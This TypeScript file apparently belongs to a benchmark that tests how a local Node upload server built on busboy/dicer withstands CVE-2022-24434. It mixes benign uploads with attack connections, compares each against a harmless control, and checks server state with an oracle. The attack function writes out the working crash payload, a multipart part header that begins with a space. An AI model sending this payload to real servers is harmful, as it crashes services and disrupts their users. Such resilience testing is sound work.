/**
 * The upload storm: bench/apps/storm-upload.js (node:http + busboy 0.3.1 /
 * dicer 0.3.0, an in-memory file store), CVE-2022-24434.
 *
 *  - Benign: multipart uploads of one 64-byte file with a unique name each,
 *    and (every --reads-every uploads) a GET /state.
 *  - Attack: a fresh connection uploads a valid file part (evil-<n>.txt; the
 *    server stores it: store.set, files++, bytes +=, names.push), waits
 *    gapMs, then sends the part whose header starts with a space (the
 *    published payload): dicer throws a TypeError no handler can catch.
 *    Its twin sends a valid last part instead (twin-<n>.txt is stored, 201).
 *  - Oracle: exactly the uploads acknowledged with 201 (plus, possibly, those
 *    whose outcome is unknown), no attacker file, counters that match them.
 */
import http = require('node:http');
import path = require('node:path');
import { performance } from 'node:perf_hooks';
import { Attack, AttackOptions, BenignLedger, CannonRequest, count, Scenario, settleRequest, Verdict } from './scenario';

const BOUNDARY = '----StormBenchBoundary7MA4YWxkTrZu0gW';
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;
/** Every benign file is this many bytes, the attacker's valid part is not (EVIL-PAYLOAD). */
const BENIGN_SIZE = 64;
const EVIL_CONTENT = 'EVIL-PAYLOAD';
/** The control's harmless twin of an attack stores twin-<n>.txt with this content (as many bytes as the attacker's). */
const TWIN_CONTENT = 'TWIN-PAYLOAD';

const isUpload = (id: string) => id.startsWith('b-');

function benignBody(name: string): string {
  const content = `benign upload ${name} `.padEnd(BENIGN_SIZE, '.');
  return (
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n` +
    `Content-Type: text/plain\r\n\r\n${content}\r\n--${BOUNDARY}--\r\n`
  );
}

function benignRequests(ledger: BenignLedger, readsEvery: number): CannonRequest[] {
  const onResponse = (status: number, _body: string, context: { cur?: string }) => ledger.answer(context.cur!, status);
  const upload: CannonRequest = {
    method: 'POST',
    path: '/upload?who=bench',
    headers: { 'content-type': MULTIPART },
    setupRequest: (req, context) => {
      const name = ledger.next((n) => `b-${n}.txt`);
      context.cur = name;
      return { ...req, body: benignBody(name) };
    },
    onResponse,
  };
  const read: CannonRequest = {
    method: 'GET',
    path: '/state',
    setupRequest: (req, context) => {
      context.cur = ledger.next((n) => `read-${n}`);
      return req;
    },
    onResponse,
  };
  return [...Array.from({ length: Math.max(1, readsEvery) }, () => upload), ...(readsEvery > 0 ? [read] : [])];
}

/**
 * One attack on a fresh connection: a valid file part the server stores,
 * then (after gapMs) the part whose first header line starts with a space.
 * Its harmless twin (the control) sends the same with a valid last part.
 */
function attackOnce({ port, n, gapMs, t0, harmless, ledger }: AttackOptions): Promise<Attack> {
  return new Promise((resolve) => {
    let t = performance.now() - t0;
    const file = harmless ? `twin-${n}.txt` : `evil-${n}.txt`;
    const req = http.request({
      host: '127.0.0.1',
      port,
      path: `/upload?who=attacker&n=${n}`,
      method: 'POST',
      agent: false,
      headers: { 'content-type': MULTIPART, 'transfer-encoding': 'chunked' },
    });
    let tail: NodeJS.Timeout | undefined;
    settleRequest(req, gapMs + 3000, (outcome) => {
      clearTimeout(tail);
      // A harmless twin is a benign upload of the attacker's client: the oracle keeps it when acknowledged.
      if (harmless) (outcome === '201' ? ledger.succeeded : ledger.unknown).add(file);
      resolve({ t, outcome });
    }, 'no answer (3 s)');
    req.write(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${file}"\r\n\r\n` +
        `${harmless ? TWIN_CONTENT : EVIL_CONTENT}\r\n--${BOUNDARY}\r\n`,
    );
    tail = setTimeout(() => {
      t = performance.now() - t0;
      // The attack: a part whose first header line starts with a space (the published payload).
      req.end(`${harmless ? '' : ' '}Content-Disposition: form-data; name="x"\r\n\r\n\r\n--${BOUNDARY}--`);
    }, gapMs);
  });
}

interface UploadState {
  pid: number;
  uploads: number;
  files: number;
  bytes: number;
  names: number;
  stored: number;
  nameList: string[];
  storedList: Array<[string, number]>;
}

/**
 * Compares the server's state with the oracle: the successful benign uploads
 * alone (uploads whose outcome the client never learned may be there or not).
 */
function judge(all: unknown[], ledger: BenignLedger, restarts: number): Verdict {
  const states = all as UploadState[];
  if (states.length === 0) return { equal: false, short: 'lost', text: 'lost: no process answers' };
  const stored = new Map<string, number>();
  const listed: string[] = [];
  const counters = { uploads: 0, files: 0, bytes: 0, names: 0, stored: 0 };
  for (const s of states) {
    for (const [name, size] of s.storedList) stored.set(name, size);
    for (const name of s.nameList) listed.push(name); // (a spread would overflow the stack past ~100 K names)
    counters.uploads += s.uploads;
    counters.files += s.files;
    counters.bytes += s.bytes;
    counters.names += s.names;
    counters.stored += s.stored;
  }
  const acknowledged = [...ledger.succeeded].filter((id) => isUpload(id) || id.startsWith('twin-'));
  const evil = [...stored.keys()].filter((n) => n.startsWith('evil-')).length;
  const evilListed = listed.filter((n) => n.startsWith('evil-')).length;
  const missing = acknowledged.filter((n) => !stored.has(n)).length;
  const expected = [...stored.keys()].filter((n) => ledger.succeeded.has(n) || ledger.unknown.has(n));
  const extra = stored.size - expected.length - evil;
  const n = expected.length;
  const bytes = expected.reduce((total, name) => total + (name.startsWith('twin-') ? TWIN_CONTENT.length : BENIGN_SIZE), 0);
  const want = { uploads: n, files: n, bytes, names: n, stored: n };
  const listOk = listed.length === n && listed.every((name) => stored.has(name)) && new Set(listed).size === n;
  const counterDiffs = (Object.keys(want) as Array<keyof typeof want>)
    .filter((k) => counters[k] !== want[k])
    .map((k) => `${k} ${counters[k] > want[k] ? '+' : ''}${counters[k] - want[k]}`);
  if (missing === 0 && evil === 0 && evilListed === 0 && extra === 0 && listOk && counterDiffs.length === 0) {
    return { equal: true, short: 'equal', text: 'yes' };
  }
  const parts: string[] = [];
  if (missing > 0) {
    parts.push(`${count(missing)} of ${count(acknowledged.length)} acknowledged uploads gone` + (restarts > 0 ? ' (lost with the workers)' : ''));
  }
  if (evil > 0 || evilListed > 0) parts.push(`${evil} attacker files stored${evilListed !== evil ? ` (${evilListed} in the name list)` : ''}`);
  if (extra > 0) parts.push(`${extra} unexpected files`);
  if (!listOk && evil === 0 && evilListed === 0) parts.push('name list differs from the store');
  if (counterDiffs.length > 0) parts.push(`counters vs the kept files: ${counterDiffs.join(', ')}`);
  const short = missing > 0 ? 'lost' : evil > 0 || evilListed > 0 ? 'corrupted' : 'differs';
  return { equal: false, short, text: `no: ${parts.join('; ')}` };
}

export function uploadScenario(root: string): Scenario {
  return {
    key: 'upload',
    app: path.join(root, 'bench', 'apps', 'storm-upload.js'),
    advisory: 'CVE-2022-24434',
    benignRequests,
    attackOnce,
    statePath: '/state?full=1',
    judge,
    text: ({ readsEvery, gapMs }) => ({
      server: 'bench/apps/storm-upload.js (node:http + busboy 0.3.1 / dicer 0.3.0, in-memory file store)',
      load: readsEvery > 0
        ? `${readsEvery} multipart uploads (one ${BENIGN_SIZE}-byte file, unique name) and 1 GET /state`
        : `multipart uploads (one ${BENIGN_SIZE}-byte file, unique name)`,
      attack: `each, on a fresh connection, stores a valid file part first, then ${gapMs} ms later sends the part header that crashes dicer`,
      twin: 'the same fresh connection, timing and stored file part, then a valid last part (201)',
      oracle:
        'the final state holds exactly the uploads acknowledged with 201 (plus, possibly, those whose outcome is unknown), no ' +
        'attacker file, and counters (uploads, files, bytes, names, store size) that match them',
      growth: 'the store holds every upload, so it grows with goodput',
    }),
  };
}
